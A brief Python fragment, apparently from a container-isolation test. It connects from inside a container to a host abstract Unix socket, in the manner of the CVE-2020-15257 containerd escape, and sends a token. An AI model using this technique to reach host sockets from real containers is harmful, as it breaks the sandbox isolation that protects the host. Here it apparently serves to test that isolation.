# Connects to an abstract socket of the host, as CVE-2020-15257 did.
def talk():
    one = socket.socket(socket.AF_UNIX)
    one.connect("\0" + stage["abstract"])
    return one.send(stage["token"].encode())
attempt(talk)
